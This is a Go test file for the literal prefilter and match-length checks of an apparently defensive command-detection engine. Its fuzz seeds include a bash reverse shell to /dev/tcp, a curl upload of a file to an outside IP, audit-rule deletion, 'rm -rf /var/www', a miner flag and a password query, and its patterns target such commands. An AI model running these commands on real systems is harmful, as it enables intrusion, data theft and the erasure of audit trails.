package detect

import (
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/auditchain/auditchain/internal/lazydfa"
)

func TestRequiredLiterals(t *testing.T) {
	tests := []struct {
		re   string
		want []string // nil: no prefilter
	}{
		{`\s(-D|-e\s*0|-d\s|-W\s)`, []string{"-D", "-e", "-d", "-W"}},
		{`/dev/(tcp|udp)/`, []string{"/dev/tcp/", "/dev/udp/"}},
		{`(^|[\s;|&(/])(nohup|setsid|disown)(\s|$)`, []string{"nohup", "setsid", "disown"}},
		{`\s-l(\s|$)`, []string{"-l"}},
		{`\s\S+:\S*$`, nil}, // nothing literal
		{`a|bc`, nil},       // one-byte literal: in every line
		// folded: looked for lower-cased, without the letters whose other
		// cases lower-case to something else (s also matches ſ)
		{`(?i)bash -i`, []string{"h -i"}},
		{`(?i)kill`, []string{"kill"}}, // the Kelvin sign lower-cases to k
		{`(?i)ss`, nil},
		{`(?i)(ab|cd)x|Ef`, []string{"ab", "cd", "ef"}}, // an exact branch is lowered with the folded ones
		{`(?i:txt|log)\s+foo`, []string{"foo"}},         // exact wins a tie
		// too many to check one by one: cut to prefixes, duplicates go
		{`--(aaaa1|aaaa2|aaaa3|aaaa4|aaaa5|aaaa6|aaaa7|aaaa8|aaaa9|aaaa0|bbbb1|bbbb2|bbbb3|bbbb4|bbbb5|bbbb6|bbbb7|bbbb8)`, []string{"--aaaa", "--bbbb"}},
		{`(abc|xabcx|abc)`, []string{"abc"}},
		{`x*yz`, []string{"yz"}}, // starred part is optional
		{`(ab){2,}`, []string{"abab"}},
	}
	for _, tt := range tests {
		got, _ := requiredLiterals(tt.re)
		slices.Sort(got)
		want := slices.Clone(tt.want)
		slices.Sort(want)
		if !slices.Equal(got, want) {
			t.Errorf("requiredLiterals(%q) = %q, want %q", tt.re, got, want)
		}
	}
}

// FuzzPrefilter: the literal check never rejects a text that a built-in
// rule's regular expression matches.
func FuzzPrefilter(f *testing.F) {
	e, err := New(Options{})
	if err != nil {
		f.Fatal(err)
	}
	var ms []*valueMatcher
	for _, r := range e.Rules() {
		if r.det == nil {
			continue
		}
		for _, s := range r.det.searches {
			for _, m := range s.maps {
				for _, fm := range m {
					for i := range fm.vals {
						if v := &fm.vals[i]; v.op == opRegexp {
							ms = append(ms, v)
						}
					}
				}
			}
		}
	}
	if len(ms) == 0 {
		f.Fatal("no regular expressions in the built-in rules")
	}
	for _, s := range []string{"sh -c bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", "auditctl -D", "rm -rf /var/www", "curl -T /tmp/x http://1.2.3.4/", "nohup ./x &", "cat ſecret | grep PASSWORD", "mysql -e 'SELECT pwd FROM users'", "xmrig --Donate-Level=1", "\u212aill -9"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, m := range ms {
			if m.re.MatchString(s) && !m.mayMatch(s, strings.ToLower(s)) {
				t.Fatalf("prefilter %q rejects %q, which %s matches", m.lits, s, m.re)
			}
		}
	})
}

// FuzzRequiredLiterals: for any pattern, a text the regexp matches holds
// one of the literals requiredLiterals returns (in its lower-cased form
// when they are folded), so the prefilter never hides a match.
func FuzzRequiredLiterals(f *testing.F) {
	for _, s := range [][2]string{
		{`(?i)bash -i`, "BAſH -I"},
		{`(?i)(pass|secret)[^\s]{0,3}key`, "ſecretKEY"},
		{`(?i)kill|x(ab|cd)`, "\u212aILL"},
		{`--(aaaa1|aaaa2|bbbb3)[= ]`, "x --aaaa2="},
		{`(?i:txt|log)\s+foo`, "LOG foo"},
	} {
		f.Add(s[0], s[1])
	}
	f.Fuzz(func(t *testing.T, pattern, s string) {
		re, err := regexp.Compile(pattern)
		if err != nil || !re.MatchString(s) {
			return
		}
		lits, fold := requiredLiterals(pattern)
		m := valueMatcher{op: opRegexp, re: lazydfa.New(re), lits: lits, litsFold: fold}
		if !m.mayMatch(s, strings.ToLower(s)) {
			t.Fatalf("prefilter %q (fold %v) rejects %q, which %s matches", lits, fold, s, pattern)
		}
	})
}

// FuzzMinMatchLen: a text a regexp matches is never shorter than the
// pattern's minMatchLen, so the length check never rejects a match.
func FuzzMinMatchLen(f *testing.F) {
	for _, s := range [][2]string{
		{`\s(-u|--user)[= ]+[48][0-9AB][1-9A-HJ-NP-Za-km-z]{93}([\s.+]|$)`, " -u 4" + strings.Repeat("A", 94)},
		{`(?i)ſ{2,}x|é`, "é"},
		{`^(\S*/)?(sh|python[0-9.]*)\s+\S*\.(?i:txt|log)(\s|$)`, "sh a.txt"},
		{`a*b?`, ""},
		{`[^a]{3}`, "éé"},
	} {
		f.Add(s[0], s[1])
	}
	f.Fuzz(func(t *testing.T, pattern, text string) {
		re, err := regexp.Compile(pattern)
		if err != nil {
			return
		}
		if re.MatchString(text) && len(text) < minMatchLen(pattern) {
			t.Fatalf("%q matches %q (%d bytes) but minMatchLen says %d", pattern, text, len(text), minMatchLen(pattern))
		}
	})
}
